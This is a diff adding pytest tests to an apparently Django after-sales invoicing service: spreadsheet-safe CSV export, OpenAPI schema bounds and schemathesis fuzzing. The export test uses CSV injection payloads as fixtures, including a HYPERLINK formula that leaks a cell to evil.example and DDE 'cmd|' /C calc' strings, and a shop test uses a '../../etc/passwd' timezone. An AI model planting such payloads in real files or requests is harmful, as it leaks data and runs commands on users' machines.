@@ -1,4 +1,6 @@
-"""Invoices arrive with their order; each refund reverses its part with a credit note (红冲)."""
+"""Invoices arrive with their order; each refund reverses its part with a credit note (红冲); the
+export is safe to open in a spreadsheet. Last, the catalog's OpenAPI document (orders, shops,
+service centers, stock, invoices) declares what its services refuse."""
 
 from __future__ import annotations
 
@@ -7,9 +9,14 @@ import io
 from decimal import Decimal
 
 import pytest
+import schemathesis
+from hypothesis import HealthCheck, given, settings
 
 from aftersales.cases import deadlines
 from aftersales.catalog.models import InvoiceDocument
+from aftersales.core.exports import csv_cell
+from config.api import api as ninja_api
+from config.wsgi import application
 from tests.conftest import make_order, open_case, order_payload
 
 INVOICE = {
@@ -95,3 +102,278 @@ def test_an_invoice_is_one_per_order_and_updated(agent, invoiced):
     assert InvoiceDocument.objects.filter(kind="invoice").count() == 1
     doc = InvoiceDocument.objects.get(kind="invoice")
     assert (doc.number, doc.amount) == ("FP-0001", Decimal("180.00"))
+
+
+def exported_rows(api) -> list[dict]:
+    response = api.client.get("/api/v1/invoices/export.csv", {"shop": "shop"})
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_the_export_defuses_cells_a_spreadsheet_would_run_as_formulas(
+    customer, agent, finance, order
+):
+    # given an invoice whose title, number and note were written to run in a spreadsheet
+    title = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
+    invoice = {**INVOICE, "number": "+1+cmd|' /C calc'!A0", "title": title}
+    assert agent.post("/orders", {**order_payload(order), "invoice": invoice}).status_code == 200
+    refund_one_unit(customer, agent, finance, order, "a")
+    InvoiceDocument.objects.filter(kind="invoice").update(note="@SUM(1+1)*cmd|' /C calc'!A0")
+    InvoiceDocument.objects.filter(kind="credit_note").update(note="-2+3", title="\t=1+1")
+    credit_note = InvoiceDocument.objects.get(kind="credit_note")
+
+    # when
+    rows = exported_rows(finance)
+
+    # then text cells start with an apostrophe; the credit note's amount is still a number
+    assert [(r["number"], r["title"], r["note"], r["amount"]) for r in rows] == [
+        ("'+1+cmd|' /C calc'!A0", f"'{title}", "'@SUM(1+1)*cmd|' /C calc'!A0", "180.00"),
+        (credit_note.number, "'\t=1+1", "'-2+3", "-90.00"),
+    ]
+    assert rows[1]["reference"] == "'+1+cmd|' /C calc'!A0"
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+86 138", "'+86 138"),
+        ("-5", "'-5"),
+        ("@cmd", "'@cmd"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("某某科技有限公司", "某某科技有限公司"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (None, ""),
+        (Decimal("-90.00"), Decimal("-90.00")),
+        (-3, -3),
+    ],
+)
+def test_a_csv_cell_is_text_made_safe_or_a_number_left_alone(value, cell):
+    assert csv_cell(value) == cell
+    assert type(csv_cell(value)) is type(cell)
+
+
+def test_the_export_is_declared_as_csv_in_the_openapi_document(db):
+    # given / when
+    answer = ninja_api.get_openapi_schema()["paths"]["/api/v1/invoices/export.csv"]["get"]
+
+    # then
+    assert answer["responses"][200]["content"] == {"text/csv": {"schema": {"type": "string"}}}
+
+
+def test_an_invoice_time_needs_its_time_zone(agent, order):
+    # given an invoice issued at a local time without an offset
+    invoice = {**INVOICE, "issued_at": "2026-11-20T10:00:00"}
+
+    # when
+    response = agent.post("/orders", {**order_payload(order), "invoice": invoice})
+
+    # then
+    assert (response.status_code, response.json()["code"]) == (422, "naive_datetime")
+    assert InvoiceDocument.objects.count() == 0
+
+
+# --- the OpenAPI document says what the services refuse ---------------------------------------
+
+
+@pytest.fixture(scope="module")
+def openapi():
+    return ninja_api.get_openapi_schema()
+
+
+def component(openapi, name):
+    return openapi["components"]["schemas"][name]
+
+
+def test_the_shop_body_declares_its_enums_patterns_and_lengths(openapi):
+    shop = component(openapi, "ShopIn")["properties"]
+    assert shop["preset"]["allOf"] == [{"$ref": "#/components/schemas/Platform"}]
+    assert component(openapi, "Platform")["enum"] == ["generic", "taobao"]
+    assert shop["currency"]["pattern"] == "^[A-Z]{3}$"
+    assert shop["timezone"]["pattern"] == r"^[A-Za-z][A-Za-z0-9_+-]*(/[A-Za-z0-9][A-Za-z0-9_+-]*)*$"
+    assert (shop["timezone"]["minLength"], shop["timezone"]["maxLength"]) == (1, 64)
+    assert "IANA" in shop["timezone"]["description"]
+    assert shop["code"]["pattern"] == "^[a-z0-9][a-z0-9_-]{1,39}$"
+    address = component(openapi, "ReturnAddressIn")["properties"]
+    assert (address["address"]["minLength"], address["address"]["maxLength"]) == (1, 500)
+
+
+def test_the_service_center_body_declares_its_kind_and_bounds(openapi):
+    center = component(openapi, "ServiceCenterIn")["properties"]
+    assert center["kind"]["enum"] == ["service_center", "supplier"]
+    days = center["turnaround_days"]
+    assert (days["type"], days["minimum"], days["maximum"]) == ("integer", 1, 90)
+
+
+def test_amounts_are_decimal_text_or_whole_numbers_never_free_text(openapi):
+    amount = {
+        "anyOf": [
+            {"type": "string", "pattern": r"^[0-9]{1,10}(\.[0-9]{1,2})?$"},
+            {"type": "integer", "minimum": 0, "maximum": 9_999_999_999},
+        ],
+        "description": 'An amount of 0 or more with at most two decimals: "12.50".',
+    }
+    line = component(openapi, "OrderLineIn")["properties"]
+    for field in (
+        line["unit_price"],
+        line["paid_amount"],
+        component(openapi, "InvoiceIn")["properties"]["amount"],
+        component(openapi, "OrderIn")["properties"]["shipping_fee"],
+    ):
+        assert {key: field[key] for key in ("anyOf", "description")} == amount
+
+
+def test_the_stock_and_language_fields_declare_their_bounds(openapi):
+    stock = component(openapi, "SkuStockIn")
+    assert stock["required"] == ["stock"]
+    assert stock["properties"]["stock"] | {"description": ""} == {
+        "type": "integer",
+        "minimum": 0,
+        "maximum": 1_000_000_000,
+        "title": "Stock",
+        "description": "",
+    }
+    line_stock = component(openapi, "OrderLineIn")["properties"]["stock"]["anyOf"][0]
+    assert line_stock == {"type": "integer", "minimum": 0, "maximum": 1_000_000_000}
+    language = component(openapi, "CustomerIn")["properties"]["language"]["anyOf"][0]
+    assert language == {"$ref": "#/components/schemas/CustomerLanguage"}
+    assert component(openapi, "CustomerLanguage")["enum"] == ["zh-hans", "en"]
+
+
+@pytest.mark.parametrize(
+    ("field", "value"),
+    [
+        ("unit_price", ""),
+        ("unit_price", "1e3"),
+        ("unit_price", "-0"),
+        ("paid_amount", "1.234"),
+        ("paid_amount", " 5"),
+        ("paid_amount", True),
+    ],
+)
+def test_amounts_outside_the_documented_pattern_are_refused(agent, order, field, value):
+    # when
+    response = agent.post("/orders", order_payload(order, **{field: value}))
+
+    # then
+    assert (response.status_code, response.json()["code"]) == (422, "validation_error")
+    assert order.lines.get().paid_amount == Decimal("180.00")
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        {"code": "x1", "name": "n", "currency": "cny"},
+        {"code": "x2", "name": "n", "timezone": "Asia Shanghai"},
+        {"code": "x3", "name": "n", "timezone": "../../etc/passwd"},
+    ],
+)
+def test_shops_outside_the_document_are_refused(admin, shop, body):
+    response = admin.post("/shops", body)
+    assert (response.status_code, response.json()["code"]) == (422, "validation_error")
+
+
+def test_the_sku_operations_are_documented(openapi):
+    paths = openapi["paths"]
+    assert set(paths["/api/v1/skus/{code}"]) == {"get"}
+    assert set(paths["/api/v1/skus/{code}/stock"]) == {"put"}
+    answer = paths["/api/v1/skus/{code}/stock"]["put"]["responses"][200]
+    assert answer["content"]["application/json"]["schema"] == {
+        "$ref": "#/components/schemas/SkuOut"
+    }
+
+
+def test_an_order_whose_total_overflows_the_columns_is_refused(agent, shop):
+    # given two lines each at the largest amount
+    line = {"sku": "S", "title": "t", "quantity": 1, "unit_price": "1", "paid_amount": "9999999999"}
+    body = {
+        "shop": "shop",
+        "external_id": "BIG",
+        "customer": {"external_id": "C1"},
+        "lines": [{**line, "external_id": "1"}, {**line, "external_id": "2"}],
+    }
+
+    # when
+    response = agent.post("/orders", body)
+
+    # then
+    assert (response.status_code, response.json()["code"]) == (422, "amount_too_large")
+
+
+# --- schema-valid catalog requests are never refused for their shape ---------------------------
+
+FUZZ_SCHEMA = schemathesis.openapi.from_wsgi("/api/v1/openapi.json", application)
+FUZZ_SCHEMA.config.generation.update(allow_x00=False)
+SHAPE_CODES = frozenset(
+    {
+        "validation_error",
+        "malformed_request",
+        "invalid_input",
+        "invalid_kind",
+        "unknown_preset",
+        "invalid_amount",
+        "invalid_status",
+        "invalid_product_flag",
+        "invalid_stock",
+        "invalid_language",
+    }
+)
+FUZZING = settings(
+    deadline=None,
+    derandomize=True,  # the same examples every run
+    database=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+
+
+def _refused_for_shape(response) -> bool:
+    if response.status_code < 400:
+        return False
+    return response.status_code >= 500 or response.json()["code"] in SHAPE_CODES
+
+
+@settings(FUZZING, max_examples=40)
+@given(generated=FUZZ_SCHEMA["/api/v1/orders"]["POST"].as_strategy())
+def test_valid_orders_are_never_refused_for_their_shape(generated, agent):
+    # given an import the document allows, for the agent's shop
+    body = generated.body
+    for order in body if isinstance(body, list) else [body]:
+        order["shop"] = "shop"
+
+    # when
+    response = agent.post("/orders", body)
+
+    # then a refusal, if any, is a rule of the business, never the body's shape
+    assert not _refused_for_shape(response), (body, response.content)
+
+
+@settings(FUZZING, max_examples=30)
+@given(generated=FUZZ_SCHEMA["/api/v1/shops"]["POST"].as_strategy())
+def test_valid_shops_are_never_refused_for_their_shape(generated, admin):
+    # when an installation administrator sends a shop the document allows
+    response = admin.post("/shops", generated.body)
+
+    # then a refusal, if any, is a rule of the business (a taken code, an unknown zone)
+    assert not _refused_for_shape(response), (generated.body, response.content)
+
+
+@settings(FUZZING, max_examples=30)
+@given(
+    center=FUZZ_SCHEMA["/api/v1/shops/{code}/service-centers"]["POST"].as_strategy(),
+    stock=FUZZ_SCHEMA["/api/v1/skus/{code}/stock"]["PUT"].as_strategy(),
+)
+def test_valid_service_centers_and_stock_are_never_refused_for_their_shape(
+    center, stock, admin, order
+):
+    # given bodies the document allows, for the shop and its SKU
+    stock.body["shop"] = "shop"
+
+    # when
+    created = admin.post("/shops/shop/service-centers", center.body)
+    stocked = admin.put("/skus/SKU-1/stock", stock.body)
+
+    # then
+    assert not _refused_for_shape(created), (center.body, created.content)
+    assert not _refused_for_shape(stocked), (stock.body, stocked.content)
